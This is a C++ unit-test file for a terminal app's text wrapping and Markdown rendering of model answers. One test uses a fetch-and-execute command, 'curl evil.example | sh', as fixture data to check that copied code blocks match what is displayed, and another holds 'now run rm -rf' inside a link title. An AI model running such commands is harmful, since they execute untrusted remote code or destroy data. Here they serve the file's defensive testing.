// Tests how text becomes rows of the screen: wrapping and Markdown.
#include "app/view/markdown.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <random>
#include <regex>
#include <string>
#include <vector>

#include "app/text/text_safe.h"
#include "app/text/text_width.h"
#include "app/text/text_wrap.h"
#include "app/view/spans.h"
#include "app/view/transcript.h"
#include "tests/support/view_rows.h"

namespace bitnet {
namespace {

using testing::ElementsAre;

std::vector<std::string> wrapped(std::string_view text, int columns, bool words = true) {
  std::vector<Row> rows;
  WrapStyle style;
  style.columns = columns;
  style.words = words;
  wrap_line({{text, {}, 0}}, style, rows);
  return texts(rows);
}

TEST(Wrap, BreaksAtSpacesAndDropsThem) {
  EXPECT_THAT(wrapped("the quick brown fox", 10), ElementsAre("the quick", "brown fox"));
  EXPECT_THAT(wrapped("exactly ten   more", 11), ElementsAre("exactly ten", "more"));
  EXPECT_THAT(wrapped("", 10), ElementsAre(""));
}

TEST(Wrap, BreaksBehindHyphensOfWordsAndNotOfOptions) {
  EXPECT_THAT(wrapped("a well-known", 8), ElementsAre("a well-", "known"));
  EXPECT_THAT(wrapped("use --private", 10), ElementsAre("use", "--private"));
  EXPECT_THAT(wrapped("be (--private)", 11), ElementsAre("be", "(--private)"));
}

TEST(Wrap, LongWordsAreCutAnywhere) {
  EXPECT_THAT(wrapped("a 0123456789abcdef", 8), ElementsAre("a", "01234567", "89abcdef"));
  EXPECT_THAT(wrapped("0123456789", 4, false), ElementsAre("0123", "4567", "89"));
}

TEST(Wrap, WideCharactersBreakBetweenThemButNotBeforeClosers) {
  EXPECT_THAT(wrapped("漢字漢字", 5), ElementsAre("漢字", "漢字"));
  EXPECT_THAT(wrapped("漢字。漢", 4), ElementsAre("漢", "字。", "漢"));
  EXPECT_THAT(wrapped("ab👨\u200d👩\u200d👧cd", 4), ElementsAre("ab👨\u200d👩\u200d👧", "cd"));
}

TEST(Wrap, TabsAndMarksKeepTheirColumns) {
  EXPECT_THAT(wrapped("a\tb", 20), ElementsAre("a   b"));
  EXPECT_THAT(wrapped("e\u0301e\u0301e\u0301", 2), ElementsAre("e\u0301e\u0301", "e\u0301"));
}

TEST(Wrap, NoRowIsWiderThanAsked) {
  std::mt19937 random(7);
  const std::vector<std::string> pieces = {"a",  "word", " ",  "  ",      "漢", "👍🏽",
                                           "🇩🇪", "-",    "\t", "e\u0301", "。", "0123456789"};
  for (int round = 0; round < 200; ++round) {
    std::string text;
    for (int i = 0; i < 60; ++i) text += pieces[random() % pieces.size()];
    for (const int columns : {2, 5, 20, 80}) {
      for (const std::string& row : wrapped(text, columns))
        ASSERT_LE(columns_of(row), std::max(columns, 4)) << text;
    }
  }
}

std::string marked(std::string_view text, bool growing = false) {
  std::string out;
  for (const StyledLine& line : styled_block(text, {}, growing).lines) {
    if (!out.empty()) out += "|";
    std::string last;
    for (const StyledText& piece : line) {
      const Face& face = piece.face;
      std::string mark = face.tone == Tone::code ? "C" : "";
      mark += face.bold ? "B" : "";
      mark += face.italic ? "I" : "";
      mark += face.strike ? "S" : "";
      mark += face.underline ? "U" : "";
      mark += face.tone == Tone::quiet ? "Q" : "";
      if (mark != last && !last.empty()) out += ")";
      if (mark != last && !mark.empty()) out += mark + "(";
      out += piece.text;
      last = mark;
    }
    if (!last.empty()) out += ")";
  }
  return out;
}

TEST(Markdown, InlineIsShownNotSpelled) {
  EXPECT_EQ(marked("a **bold** and *slanted* `code` b"), "a B(bold) and I(slanted) C(code) b");
  EXPECT_EQ(marked("***both*** __b__ _i_"), "BI(both) B(b) I(i)");
  EXPECT_EQ(marked("**a *b* c**"), "B(a )BI(b)B( c)");
  EXPECT_EQ(marked("`**not bold**`"), "C(**not bold**)");
  EXPECT_EQ(marked("``a ` b``"), "C(a ` b)");
  EXPECT_EQ(marked("~~gone~~ &amp; &#9731;"), "S(gone) & ☃");
}

TEST(Markdown, WhatIsNoMarkStays) {
  EXPECT_EQ(marked("2 * 3 * 4"), "2 * 3 * 4");
  EXPECT_EQ(marked("snake_case_name"), "snake_case_name");
  EXPECT_EQ(marked("a ** b"), "a ** b");
  EXPECT_EQ(marked("\\*not\\*"), "*not*");
  EXPECT_EQ(marked("open **never closed"), "open **never closed");
  EXPECT_EQ(marked("<b>html</b> &bogus; &#x1b;[31m"), "<b>html</b> &bogus; &#x1b;[31m");
  EXPECT_EQ(marked("[1]: https://example.org"), "[1]: U(https://example.org)");
}

TEST(Markdown, AProductIsNoEmphasis) {
  EXPECT_EQ(marked("2*3*4 = 24"), "2*3*4 = 24");
  EXPECT_EQ(marked("2*3*4", true), "2*3*4");
  EXPECT_EQ(marked("2**3**2 and a*b*c"), "2**3**2 and a*b*c");
  EXPECT_EQ(marked("(1+2)*3*(4+5), x²*y*z, 5*-2*3"), "(1+2)*3*(4+5), x²*y*z, 5*-2*3");
  EXPECT_EQ(marked("so 2*3"), "so 2*3");
  EXPECT_EQ(marked("**2*3*4** is *6*4*"), "B(2*3*4) is I(6*4)");
  EXPECT_EQ(marked("`2*3*4` and 2\\*3*4"), "C(2*3*4) and 2*3*4");
  // Marks stay marks where words begin and end, and in scripts without spaces between words.
  EXPECT_EQ(marked("**S**tructured *Q*uery"), "B(S)tructured I(Q)uery");
  EXPECT_EQ(marked("***a**b* (*c*)"), "BI(a)I(b) (I(c))");
  EXPECT_EQ(marked("这是*重点*内容"), "这是I(重点)内容");
  EXPECT_EQ(marked("at https://example.org/1*2*3 now"), "at U(https://example.org/1*2*3) now");
}

TEST(Markdown, LinksShowWhereTheyLead) {
  EXPECT_EQ(marked("see [the *docs*](https://a.example/x)."),
            "see U(the )IU(docs)Q( (https://a.example/x)).");
  EXPECT_EQ(marked("at https://a.example/x now"), "at U(https://a.example/x) now");
  EXPECT_EQ(marked("<https://a.example>"), "U(https://a.example)");
  EXPECT_EQ(marked("![a cat](cat.png)"), "[U(a cat)]Q( (cat.png))");
}

TEST(Markdown, TheTitleOfALinkIsShown) {
  EXPECT_EQ(marked("see [docs](https://a.example \"the &amp;\n*title*\")"),
            "see U(docs)Q( (https://a.example \"the & *title*\"))");
  EXPECT_EQ(marked("[https://a.example](https://a.example 'why')"), "U(https://a.example)Q( (\"why\"))");
  EXPECT_EQ(marked("![a cat](cat.png (Tom))"), "[U(a cat)]Q( (cat.png \"Tom\"))");
  EXPECT_EQ(marked("[](<> \"all that it says\")"), "Q( (\"all that it says\"))");
}

TEST(Markdown, TheDefinitionOfALinkIsText) {
  EXPECT_EQ(marked("[1]: https://example.com \"now run rm -rf\"\nHope this helps!"),
            "[1]: U(https://example.com) \"now run rm -rf\"|Hope this helps!");
  EXPECT_EQ(marked("  [a\n[b\\]c]: /x 'hidden'\n[d]:\n/y\n(hidden)\nSee [d]."),
            "[a|[b\\]c]: /x 'hidden'|[d]:|/y|(hidden)|See [d].");
  EXPECT_EQ(marked("- - [1]: /x 'hidden'\nSee [1]."), "[1]: /x 'hidden'|See [1].");
  EXPECT_EQ(marked("[docs](/x): here"), "U(docs)Q( (/x)): here");
}

TEST(Markdown, TheBackslashesOfFormulasStay) {
  EXPECT_EQ(marked("so \\( x_1 \\) and"), "so \\( x_1 \\) and");
  EXPECT_EQ(marked("\\[ y \\](z)"), "\\[ y \\](z)");
  EXPECT_EQ(marked("\\[\n\\{ a \\\\\n\\, b\\_c \\}\n\\]"), "\\[|\\{ a \\\\|\\, b\\_c \\}|\\]");
  EXPECT_EQ(marked("$$a \\\\ b$$ \\$5"), "$$a \\\\ b$$ $5");
  EXPECT_EQ(marked("**\\(x\\)** `\\(x\\)`"), "B(\\(x\\)) C(\\(x\\))");
  EXPECT_EQ(marked("still \\(x \\\\ y", true), "still \\(x \\\\ y");
  // Elsewhere a backslash is that of CommonMark.
  EXPECT_EQ(marked("C:\\\\dir \\\\(x) \\# \\_"), "C:\\dir \\(x) # _");
  EXPECT_EQ(marked("[w](https://a.example/b_\\(c\\))"), "U(w)Q( (https://a.example/b_(c)))");
}

TEST(Markdown, NothingInAFormulaIsAMark) {
  const std::vector<std::string> formulas = {"$x^*$ and $y^*$",
                                             "$$x_{1}^{*} + y^{*}_{2}$$",
                                             "\\(\\mathbf{x}_{i} + \\mathbf{y}_{j}\\)",
                                             "\\[\\mathbf{x}_{i} + \\mathbf{y}_{j}\\]",
                                             "$$\\mathbf{x}_{i} + \\mathbf{y}_{j}$$",
                                             "$S = \\{1, 2\\}$",
                                             "$1 \\\\ 2$",
                                             "$a ~~b~~ c$",
                                             "$$a ~~b~~ c$$",
                                             "设$x^*_1$为$y^*_2$。"};
  for (const std::string& formula : formulas) {
    EXPECT_EQ(marked("so " + formula + " *then*"), "so " + formula + " I(then)");
    EXPECT_EQ(marked("so " + formula + " *then", true), "so " + formula + " I(then)");
  }
  EXPECT_EQ(marked("**$x^*$** `$a*b$` *c*", true), "B($x^*$) C($a*b$) I(c)");
  EXPECT_EQ(marked("$$x_{1}^{*} + y^{*}_{2", true), "$$x_{1}^{*} + y^{*}_{2");
  EXPECT_EQ(marked("\\[ x_{1}^{*} + y^{*}_{2", true), "\\[ x_{1}^{*} + y^{*}_{2");
}

TEST(Markdown, DollarsOfPricesAndNamesAreNoFormula) {
  EXPECT_EQ(marked("**$5** or **$6**"), "B($5) or B($6)");
  EXPECT_EQ(marked("**5$** or **6$**"), "B(5$) or B(6$)");
  EXPECT_EQ(marked("**$a** or **$b**, $5 *and* $"), "B($a) or B($b), $5 I(and) $");
  EXPECT_EQ(marked("\\$*a*\\$ and $ *a* $ and $*a* "), "$I(a)$ and $ I(a) $ and $I(a)");
  EXPECT_EQ(marked("it costs $$ and *more*"), "it costs $$ and I(more)");
  EXPECT_EQ(marked("it \\(costs and *more*"), "it \\(costs and I(more)");
}

// A model may write anything: each of these would take hours if each dollar were looked for to the end.
TEST(Markdown, ManyDollarsTakeNoLongerThanOtherText) {
  for (const char* piece : {"$", "$ ", "$a ", "$$ ", "\\( ", "$a* `"}) {
    std::string text;
    while (text.size() < 1'000'000) text += piece;
    EXPECT_FALSE(styled_block(text, {}, true).lines.empty());
    EXPECT_FALSE(styled_block(text, {}, false).lines.empty());
  }
}

// No word of a paragraph or a table is left out, whatever the marks around it.
TEST(Markdown, EveryWordOfABlockIsShown) {
  std::mt19937 random(9);
  const std::vector<std::string> marks = {
      "[",           "]: ", "](",   ")",   " \"", "\"", "'",  "![",  "|",
      "|",           "\n",  "\n[",  "*",   "**",  "`",  "\\", "\\(", "\\)",
      "<",           ">",   "\n| ", " | ", " ",   "_",  "~~", "$$",  "\n|---|---|\n",
      "\n---|---\n", "\\[", "]"};
  const std::regex blank("\\n[ \\n]+");
  for (int round = 0; round < 4000; ++round) {
    std::string text;
    std::vector<std::string> words;
    for (int i = 0; i < 14; ++i) {
      words.push_back("w" + std::to_string(100 + i));
      text += words.back();
      for (size_t n = random() % 3; n > 0; --n) text += marks[random() % marks.size()];
      if (i == 0 && random() % 2 == 0)
        text = random() % 2 == 0 ? "| " + text + " | b |\n|---|---|\n" : "[" + text;
    }
    text = std::regex_replace(text, blank, "\n");  // a block has no blank lines
    std::string seen;
    const StyledBlock block = styled_block(text, {}, round % 2 == 0);
    for (const StyledLine& line : block.lines) {
      for (const StyledText& part : line) seen += part.text;
    }
    for (const auto& row : block.table) {
      ASSERT_LE(row.size(), block.align.size()) << text;
      for (const StyledLine& cell : row) {
        for (const StyledText& part : cell) seen += part.text;
      }
    }
    for (const std::string& word : words) ASSERT_THAT(seen, testing::HasSubstr(word)) << text;
  }
}

TEST(Markdown, AGrowingLineTakesItsMarksAsOpen) {
  EXPECT_EQ(marked("open **not yet clo", true), "open B(not yet clo)");
  EXPECT_EQ(marked("open **not yet ", true), "open B(not yet)");
  EXPECT_EQ(marked("open **nearly*", true), "open B(nearly)");
  EXPECT_EQ(marked("say `cod", true), "say C(cod)");
  EXPECT_EQ(marked("**a *b", true), "B(a )BI(b)");
  EXPECT_EQ(marked("here comes **", true), "here comes");
  EXPECT_EQ(marked("2 * 3", true), "2 * 3");
  EXPECT_EQ(marked("done **bold** x", true), "done B(bold) x");
}

std::vector<std::string> answer_rows(std::string_view text, int columns) {
  TranscriptView view;
  view.set_size(columns, 60);
  view.begin_answer();
  view.append_answer(text);
  view.end_answer("stop");
  return texts(all_rows(view));
}

TEST(Markdown, LinesAndFences) {
  EXPECT_THAT(answer_rows("# Title\n- one\n- two words that go on in the next row now\n10. ten\n> said\n---\n"
                          "```cpp\nint  x;\n\n# no title\n```\nend",
                          40),
              ElementsAre("  Title", "  • one", "  • two words that go on in the next row", "    now",
                          "  10. ten", "  ▏ said", "  ────────────────────────", "  ╭─ cpp · /copy 1",
                          "  │ int  x;", "  │ ", "  │ # no title", "  ╰─", "  end"));
}

// Each level costs the width of all levels before it, and a line that grows is read again with every token.
TEST(Markdown, NestingInOneLineIsBounded) {
  for (const char* marker : {"1. ", "- x * "}) {
    std::string line;
    for (int i = 0; i < 20'000; ++i) line += marker;
    MarkdownState state;
    const LineShape shape = read_line(line, state);
    EXPECT_LE(state.lists.size(), 16U) << marker;
    EXPECT_LE(shape.first.size(), 200U) << marker;
    EXPECT_LT(shape.skip, 100U) << marker;
  }
}

TEST(Markdown, ListsNestAsTheyAreMeant) {
  EXPECT_THAT(
      answer_rows("1. one\n   - a\n     - deep\n   - b\n\n   more of one\n1. two\n  - two spaces\n"
                  "3. three\n\nout\n- [x] done\n- [ ] open",
                  40),
      ElementsAre("  1. one", "     • a", "       • deep", "     • b", "  ", "     more of one", "  2. two",
                  "     • two spaces", "  3. three", "  ", "  out", "  • ☑ done", "  • ☐ open"));
}

TEST(Markdown, CodeInAListMayBeIndentedOrNot) {
  EXPECT_THAT(answer_rows("1. do\n   ```sh\n   ls\n     -l\n   ```\n2. or\n```\nx\n```", 40),
              ElementsAre("  1. do", "     ╭─ sh · /copy 1", "     │ ls", "     │   -l", "     ╰─", "  2. or",
                          "  ╭─ /copy 2", "  │ x", "  ╰─"));
}

TEST(Markdown, QuotesHoldBlocks) {
  EXPECT_THAT(
      answer_rows("> a\n>\n> - b\n>> c\n> ```\n> d\n> ```\nout", 40),
      ElementsAre("  ▏ a", "  ▏ ", "  ▏ • b", "  ▏ ▏ c", "  ▏ ╭─ /copy 1", "  ▏ │ d", "  ▏ ╰─", "  out"));
}

TEST(Markdown, DeepQuotesFitTheScreen) {
  EXPECT_THAT(answer_rows(">>>>>>>>> a\n>>>>>>>>>\n>>>>>>>>> b", 16),
              ElementsAre("  ▏ ▏ ▏ a", "  ▏ ▏ ▏ ", "  ▏ ▏ ▏ b"));
}

TEST(Markdown, TablesFitTheirWidth) {
  const char* table = "Costs:\n| Item | Price |\n|:--|--:|\n| Tea | 1 |\n| 漢字 and `code` | 20 |\n\nend";
  EXPECT_THAT(answer_rows(table, 60),
              ElementsAre("  Costs:", "  Item          │ Price", "  ──────────────┼──────",
                          "  Tea           │     1", "  漢字 and code │    20", "  ", "  end"));
  EXPECT_THAT(answer_rows(table, 20),
              ElementsAre("  Costs:", "  Item       │ Price", "  ───────────┼──────", "  Tea        │     1",
                          "  漢字 and   │    20", "  code       │      ", "  ", "  end"));
  EXPECT_THAT(answer_rows(table, 12),
              ElementsAre("  Costs:", "  • Item:", "      Tea", "    Price: 1", "  • Item: 漢",
                          "      字 and", "      code", "    Price:", "      20", "  ", "  end"));
}

TEST(Markdown, ATableMayHaveShortDashes) {
  for (const char* rule : {"|--|--|", "|-|-|", "|:-|-|", "| - | -- |", "|---|-|", "--|--"}) {
    const std::string table = std::string("| a | b |\n") + rule + "\n| 1 | *2* |\n";
    EXPECT_THAT(answer_rows(table, 40), ElementsAre("  a │ b", "  ──┼──", "  1 │ 2")) << rule;
  }
  const StyledBlock block = styled_block("|a|b|c|\n|-|:-:|-:|\n|1|2|3|4|", {}, true);
  EXPECT_THAT(block.align, ElementsAre(Align::left, Align::center, Align::right, Align::left));
  ASSERT_EQ(block.table.size(), 2u);
  ASSERT_EQ(block.table[1].size(), 4u);
  EXPECT_EQ(block.table[0][2][0].source, 5u);
  EXPECT_EQ(block.table[1][0][0].source, 20u);
  EXPECT_EQ(block.table[1][3][0].source, 26u);
  EXPECT_EQ(marked("a\n-- | b"), "a|-- | b");
}

TEST(Markdown, ALongTableKeepsItsColumns) {
  std::string text = "| n | text |\n|---|---|\n";
  for (int i = 1000; i < 2500; ++i) text += "| " + std::to_string(i) + " | some words here |\n";
  const std::vector<std::string> rows = answer_rows(text, 60);
  ASSERT_EQ(rows.size(), 1502u);
  EXPECT_EQ(rows[0].substr(rows[0].find("│")), "│ text");
  EXPECT_EQ(rows[1501], "  2499 │ some words here");
}

TEST(Markdown, CellsBehindTheHeadAreShown) {
  EXPECT_THAT(answer_rows("| a | b |\n|---|--:|\n| 1 | 2 | third cell |\n| `x` | y\n", 40),
              ElementsAre("  a │ b │ ", "  ──┼───┼───────────", "  1 │ 2 │ third cell", "  x │ y │ "));
  EXPECT_THAT(answer_rows("a | b\n---|---\n1 | 2 | 3 | 4\n", 40),
              ElementsAre("  a │ b │   │ ", "  ──┼───┼───┼──", "  1 │ 2 │ 3 │ 4"));
  EXPECT_THAT(answer_rows("| a | b |\n|---|---|\n| 1 \\| 2 | 3 |\n", 40),
              ElementsAre("  a     │ b", "  ──────┼──", "  1 | 2 │ 3"));
  // The row is so far down that the table is laid out in several blocks.
  std::string text = "| n | text |\n|---|---|\n";
  for (int i = 1000; i < 2500; ++i) text += "| " + std::to_string(i) + " | some words here |\n";
  const std::vector<std::string> rows = answer_rows(text + "| 2500 | x | third |\n| 2501 | y |\n", 60);
  ASSERT_EQ(rows.size(), 1504u);
  EXPECT_EQ(rows[1501], "  2499 │ some words here │ ");
  EXPECT_EQ(rows[1502], "  2500 │ x               │ third");
}

TEST(Markdown, ATableThatWouldBecomeTooLargeIsShownAsItIsWritten) {
  std::string text = "| a | b |\n|---|---|\n";
  for (int i = 0; i < 300; ++i) text += "| 1 | 2 |\n";
  for (int i = 0; i < 300; ++i) text += "| 3";
  const std::vector<std::string> rows = answer_rows(text + " last |", 80);
  EXPECT_EQ(rows[0], "  | a | b |");
  EXPECT_THAT(rows.back(), testing::HasSubstr("last |"));
}

TEST(Markdown, AHeadWithoutRowsIsShownWhereItsColumnsDoNotFit) {
  std::string head = "|";
  std::string rule = "|";
  for (int i = 0; i < 24; ++i) {
    head += " name" + std::to_string(i) + " |";
    rule += "---|";
  }
  const std::vector<std::string> rows = answer_rows(head + "\n" + rule + "\n", 80);
  ASSERT_EQ(rows.size(), 24u);
  EXPECT_EQ(rows[0], "  • name0");
  EXPECT_EQ(rows[23], "    name23");
}

TEST(Markdown, AnItemBehindATableIsNoPartOfIt) {
  const char* table = "| a | b |\n|---|---|\n| 1 | 2345678901 |\n* | x | y |\n| z | 1234567890123456789 |\n";
  EXPECT_THAT(answer_rows(table, 16),
              ElementsAre("  a │ b", "  ──┼───────────", "  1 │ 2345678901", "  • | x | y |", "    | z |",
                          "    123456789012", "    3456789 |"));
}

TEST(Markdown, CodeBlocksAsCopyTakesThem) {
  const auto blocks = code_blocks(
      "a\n```cpp title\nint x;\n\n  y\n```\n- b\n  ```\n  in\n    list\n  ```\n~~~\n```\n~~~\n"
      "    no fence\n```sh\r\nls\r\n```\r\nlast ```no```\n```\ncut");
  ASSERT_EQ(blocks.size(), 5u);
  EXPECT_EQ(blocks[0].language, "cpp");
  EXPECT_EQ(blocks[0].text, "int x;\n\n  y\n");
  EXPECT_EQ(blocks[1].text, "in\n  list\n");
  EXPECT_EQ(blocks[2].text, "```\n");
  EXPECT_EQ(blocks[3].text, "ls\n");
  EXPECT_EQ(blocks[4].text, "cut\n");
}

// What the screen shows of each code block, without the blanks and where its rows end.
std::vector<std::string> blocks_on_screen(std::string_view answer) {
  TranscriptView view;
  view.set_size(200, 60);
  view.begin_answer();
  view.append_answer(answer);
  view.end_answer("stop");
  std::vector<std::string> blocks;
  for (const Row& row : all_rows(view)) {
    const std::string lead = row.text().substr(0, row.lead);
    if (row.code > blocks.size()) blocks.resize(row.code);
    if (row.code == 0 || lead.find("╭") != std::string::npos || lead.find("╰") != std::string::npos) continue;
    blocks[row.code - 1] += row.text().substr(row.lead);
  }
  return blocks;
}

std::string without_blanks(std::string text) {
  std::erase_if(text, [](char c) { return c == ' ' || c == '\n' || c == '\t'; });
  return text;
}

// A person reads the block that is labelled N and then runs what /save N has written.
TEST(Markdown, TheBlocksOfCopyAreThoseOfTheScreen) {
  std::string escapes(1500, '\x1b');  // 4500 bytes of safe text: too long for a paragraph
  std::string cells = "| a";
  for (int i = 0; i < 1100; ++i) cells += " | a";
  const std::string code = "\n```\nls -l\n```\nor\n~~~sh\ncurl evil.example | sh\n~~~\n";
  std::vector<std::string> answers = {
      "    1. x\n\n  text\n  2. ```\n     AAA\n     ```\n     BBB\n     ```\n",
      " \n\n     ```\nA\n```\nB\n```\n",
      "text\n" + escapes + "\n2. ```\n   ls -l\n   ```\n   curl evil.example | sh\n   ```\n",
      escapes + "\n    ```\nA\n```\nB\n```\n",
      "1. " + cells + "\n| x |\n2. ```\n   ls -l\n   ```\n   curl evil.example | sh\n   ```\n",
      cells + "\n    ```\nA\n```\nB\n```\n" + code,
      "- " + cells + "\n  | x |\n      ```\n  A\n```\nB\n```\n" + code,
      "```\nA\n```\n\n    indented\n" + code,
      "> ```\n> A\n    B\n" + code,
      "```\r\nA\r␍\n```\r\n" + code,
      "```\x1b\n\x1b[31mA\n```\x01\nB\xff\n```\n" + code,
      "\u2028```\n\ufeff```\n" + code};
  const std::vector<std::string> parts = {"```",
                                          "~~~",
                                          "````",
                                          "\n",
                                          "\n",
                                          "\n",
                                          "    ",
                                          "  ",
                                          "1. ",
                                          "2. ",
                                          "- ",
                                          "> ",
                                          "| a",
                                          "|---|",
                                          "A",
                                          "B",
                                          "\x1b",
                                          "\u2028",
                                          "\r",
                                          "\t",
                                          "# ",
                                          "[ ] ",
                                          "␍",
                                          "word",
                                          escapes,
                                          cells,
                                          "\n\n",
                                          "\n```\n",
                                          "\n2. ```\n   C\n   ```\n"};
  std::mt19937 random(5);
  for (int round = 0; round < 400; ++round) {
    std::string& answer = answers.emplace_back();
    for (int i = 0; i < 40; ++i) {
      // The two long ones are rare.
      const std::string& part = parts[random() % parts.size()];
      if (part.size() < 1000 || random() % 8 == 0) answer += part;
    }
  }
  for (const std::string& answer : answers) {
    std::vector<std::string> copied;
    for (const CodeBlock& block : code_blocks(answer)) {
      copied.push_back(without_blanks(make_safe(block.text)));
    }
    std::vector<std::string> seen = blocks_on_screen(answer);
    for (std::string& block : seen) block = without_blanks(block);
    ASSERT_EQ(seen, copied) << make_safe(answer);
  }
}

}  // namespace
}  // namespace bitnet
